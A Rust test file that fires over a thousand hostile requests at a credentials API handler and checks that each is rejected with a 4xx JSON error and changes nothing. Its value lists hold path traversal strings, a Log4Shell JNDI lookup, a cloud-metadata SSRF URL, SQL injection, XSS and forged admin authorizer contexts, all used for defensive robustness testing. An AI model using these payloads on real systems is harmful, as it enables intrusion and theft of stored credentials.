//! Hostile input: malformed bodies, values and paths get a 4xx JSON reply and change nothing.

use super::*;

/// Values that are wrong for some field: types, sizes, unicode, injection strings, path tricks.
fn hostile_values() -> Vec<Value> {
    vec![
        Value::Null,
        json!(true),
        json!(0),
        json!(-1),
        json!(1.5),
        json!(u64::MAX),
        json!(""),
        json!("   "),
        json!("\u{0}"),
        json!("ä😀\u{202e}ᚠ𝕏"),
        json!("\u{feff}glpat"),
        json!([]),
        json!([1, "a", null]),
        json!({}),
        json!({"nested": {"deeper": [1, 2, {"x": "y"}]}}),
        json!("../../../etc/passwd"),
        json!("..%2F..%2Fsecret"),
        json!("<script>alert(1)</script>"),
        json!("'; DROP TABLE credentials; --"),
        json!("${jndi:ldap://203.0.113.9/a}"),
        json!("gopher://169.254.169.254/latest/meta-data/"),
        json!("file:///etc/passwd"),
        json!("2030-13-45"),
        json!("x".repeat(10_000)),
        json!("y".repeat(60_000)),
        json!("-----BEGIN CERTIFICATE-----\ngarbage\n-----END CERTIFICATE-----"),
        json!("cred_00000000000000000000000000"),
    ]
}

/// Bodies that are not what they claim to be.
fn broken_bodies() -> Vec<(Option<&'static str>, Vec<u8>)> {
    let json_type = Some("application/json");
    let form = Some("application/x-www-form-urlencoded");
    let mut bodies: Vec<(Option<&'static str>, Vec<u8>)> = vec![
        (json_type, b"{".to_vec()),
        (json_type, b"}".to_vec()),
        (json_type, b"{\"label\":}".to_vec()),
        (json_type, b"{'label':'x'}".to_vec()),
        (json_type, b"null".to_vec()),
        (json_type, b"42".to_vec()),
        (json_type, b"\"string\"".to_vec()),
        (json_type, b"[{\"secrets\":{}}]".to_vec()),
        (json_type, b"{\"a\":1,}".to_vec()),
        (json_type, b"{\"a\":1e999}".to_vec()),
        (json_type, b"{\"a\":\"\\ud800\"}".to_vec()),
        (json_type, vec![0xff, 0xfe, 0x00, 0x7b]),
        (json_type, b"\x00\x00\x00".to_vec()),
        (json_type, "[".repeat(20_000).into_bytes()),
        (
            json_type,
            format!("{}1{}", "{\"a\":".repeat(5_000), "}".repeat(5_000)).into_bytes(),
        ),
        (json_type, vec![b'{'; 70_000]),
        (
            json_type,
            format!("{{\"label\":\"{}\"}}", "z".repeat(66_000)).into_bytes(),
        ),
        (
            json_type,
            b"{\"secrets\":{\"api_token\":\"a\"},\"secrets\":{\"api_token\":\"b\"}".to_vec(),
        ),
        (form, b"%zz=%zz".to_vec()),
        (form, b"settings[base_url][x]=1".to_vec()),
        (form, b"secrets=1&secrets[api_token]=x".to_vec()),
        (form, b"label=a&label=b".to_vec()),
        (form, b"[]=1".to_vec()),
        (form, b"secrets[api_token]=a%20b".to_vec()),
        (form, vec![0xc3, 0x28, b'=', b'1']),
        (form, b"&&&===".to_vec()),
        (form, b"secrets%5Bapi_token%5D=".to_vec()),
        (Some("text/plain"), b"label=x".to_vec()),
        (Some("application/xml"), b"<a/>".to_vec()),
        (Some("multipart/form-data; boundary=x"), b"--x--".to_vec()),
        (Some("application/json; charset=utf-16"), b"{".to_vec()),
        (Some("\u{0}"), b"{}".to_vec()),
    ];
    bodies.push((None, b"not json at all".to_vec()));
    bodies
}

/// Paths that try to reach something else.
fn hostile_paths() -> Vec<String> {
    let mut paths = vec![
        "/".to_owned(),
        "//".to_owned(),
        "/connections".to_owned(),
        "/connections/".to_owned(),
        "/connections//credentials.list".to_owned(),
        "/connections/acme-prod/".to_owned(),
        "/connections/acme-prod/credentials.list/".to_owned(),
        "/connections/acme-prod/../other/credentials.list".to_owned(),
        "/connections/..%2Facme-prod/credentials.list".to_owned(),
        "/connections/acme-prod%00/credentials.list".to_owned(),
        "/connections/acme-prod/credentials.info".to_owned(),
        "/connections/acme-prod/credentials.info/".to_owned(),
        "/connections/acme-prod/credentials.info/../../x".to_owned(),
        "/connections/acme-prod/credentials.info/a/b".to_owned(),
        "/connections/acme-prod/credentials.info/%2e%2e".to_owned(),
        "/connections/acme-prod/CREDENTIALS.LIST".to_owned(),
        "/connections/acme-prod/credentials.list;x=1".to_owned(),
        "/connections/acme-prod/credentials.list%20".to_owned(),
        "/connections/ä😀/credentials.list".to_owned(),
        "/connections/acme prod/credentials.list".to_owned(),
        "/prod/stage/connections/acme-prod/credentials.list".to_owned(),
        "/admin".to_owned(),
        "/connections/acme-prod/credentials.create/extra".to_owned(),
        format!("/connections/{}/credentials.list", "a".repeat(65)),
        format!("/connections/acme-prod/credentials.info/{}", "b".repeat(65)),
        format!("/{}", "c/".repeat(500)),
    ];
    paths.push("/connections/acme-prod/credentials.lis?include_deleted=%ff".to_owned());
    paths
}

fn set_path(body: &mut Value, field: &str, value: Value) {
    match field.split_once('.') {
        None => body[field] = value,
        Some((outer, inner)) => {
            if !body[outer].is_object() {
                body[outer] = json!({});
            }
            body[outer][inner] = value;
        }
    }
}

#[tokio::test]
async fn a_thousand_hostile_requests_get_4xx_json_and_change_nothing() {
    let env = env().await;
    let id = create(&env, GOOD).await["id"].as_str().unwrap().to_owned();
    let before = stored(&env).await;
    let sim_url = env.sim.base_url();

    let mut requests: Vec<Request> = Vec::new();
    let fields = [
        "label",
        "settings",
        "settings.base_url",
        "settings.ca_bundle",
        "settings.requests_per_minute",
        "settings.unknown",
        "secrets",
        "secrets.api_token",
        "secrets.other",
        "expiration_date",
        "id",
        "unexpected",
    ];
    for value in hostile_values() {
        for field in fields {
            // create: otherwise valid, but with an unknown token, so nothing can be stored.
            let mut body =
                json!({"settings": {"base_url": sim_url}, "secrets": {"api_token": UNKNOWN}});
            set_path(&mut body, field, value.clone());
            requests.push(post("credentials.create", &body));
            // update of the existing credential, with a token GitLab refuses unless the field is the token.
            let mut body = json!({"id": id, "secrets": {"api_token": UNKNOWN}});
            set_path(&mut body, field, value.clone());
            let keeps_stored_token = field.starts_with("secrets")
                && field != "secrets.api_token"
                && (value.is_null() || value == json!({}));
            if !keeps_stored_token {
                requests.push(post("credentials.update", &body));
            }
            // delete: only an id is accepted, and none of these is the existing one.
            let mut body = json!({"id": format!("{id}-not")});
            set_path(&mut body, field, value.clone());
            requests.push(post("credentials.delete", &body));
            // the same as a form, for string values
            if let Value::String(s) = &value {
                let key = match field.split_once('.') {
                    Some((outer, inner)) => format!("{outer}[{inner}]"),
                    None => field.to_owned(),
                };
                let form: String = url::form_urlencoded::Serializer::new(String::new())
                    .append_pair("secrets[api_token]", UNKNOWN)
                    .append_pair(&key, s)
                    .finish();
                requests.push(request(
                    "POST",
                    &format!("/connections/{CONN}/credentials.create"),
                    Some("application/x-www-form-urlencoded"),
                    Some(form),
                ));
            }
        }
        // The value as the path's id.
        if let Value::String(s) = &value {
            let encoded: String = url::form_urlencoded::byte_serialize(s.as_bytes()).collect();
            requests.push(
                get(&format!("credentials.info/{encoded}"))
                    .with_raw_http_path(format!("/connections/{CONN}/credentials.info/{s}")),
            );
        }
    }
    for route in [
        "credentials.create",
        "credentials.update",
        "credentials.delete",
    ] {
        for (content_type, body) in broken_bodies() {
            let mut req = request(
                "POST",
                &format!("/connections/{CONN}/{route}"),
                content_type.filter(|c| !c.contains('\u{0}')),
                None,
            );
            if let Some(content_type) = content_type
                && let Ok(value) =
                    lambda_http::http::HeaderValue::from_bytes(content_type.as_bytes())
            {
                req.headers_mut().insert("content-type", value);
            }
            *req.body_mut() = lambda_http::Body::Binary(body);
            requests.push(req);
        }
    }
    for path in hostile_paths() {
        for method in ["GET", "POST", "PUT", "DELETE", "PATCH", "OPTIONS", "HEAD"] {
            let base = request(
                method,
                "/connections/acme-prod/credentials.list",
                None,
                None,
            );
            let (raw, query) = path.split_once('?').unwrap_or((&path, ""));
            let mut req = base.with_raw_http_path(raw);
            if !query.is_empty() {
                req = req.with_query_string_parameters(
                    url::form_urlencoded::parse(query.as_bytes())
                        .into_owned()
                        .collect::<std::collections::HashMap<String, String>>(),
                );
            }
            requests.push(req);
        }
    }
    // Unsigned and oddly signed variants of valid requests.
    for name in ["create", "update", "info", "list", "delete"] {
        for authorizer in [
            Value::Null,
            json!({}),
            json!({"iam": {}}),
            json!({"iam": {"userArn": "", "callerId": "", "accessKey": ""}}),
            json!({"lambda": {"user": "admin"}}),
            json!({"jwt": {"claims": {"sub": "admin"}, "scopes": ["admin"]}}),
        ] {
            let mut e = event(name);
            if authorizer.is_null() {
                e["requestContext"]
                    .as_object_mut()
                    .unwrap()
                    .remove("authorizer");
            } else {
                e["requestContext"]["authorizer"] = authorizer;
            }
            e["rawPath"] = e["rawPath"]
                .as_str()
                .unwrap()
                .replace("acme-prod", CONN)
                .into();
            requests.push(into_request(&e));
        }
    }

    let total = requests.len();
    assert!(total >= 1_000, "only {total} hostile requests");
    let mut by_status: BTreeMap<u16, usize> = BTreeMap::new();
    for req in requests {
        let method = req.method().clone();
        let path = req.raw_http_path().to_owned();
        let reply = handler(&env.api, req).await.expect("never an error");
        let status = reply.status().as_u16();
        *by_status.entry(status).or_default() += 1;
        let shown: String = path.chars().take(120).collect();
        assert!((400..500).contains(&status), "{method} {shown}: {status}");
        let body: Value = serde_json::from_slice(reply.body().as_ref())
            .unwrap_or_else(|_| panic!("{method} {shown}: reply is not JSON"));
        assert_eq!(body["ok"], false, "{method} {shown}");
        assert!(body["error"].is_string() && body["message"].is_string());
    }
    assert_eq!(stored(&env).await, before, "no stored data changed");
    // The mix reached every layer: routing, auth, parsing, field checks and verification.
    for status in [400, 401, 404, 405, 413, 415] {
        assert!(
            by_status.contains_key(&status),
            "{status} never seen: {by_status:?}"
        );
    }
    println!("{total} hostile requests: {by_status:?}");
}
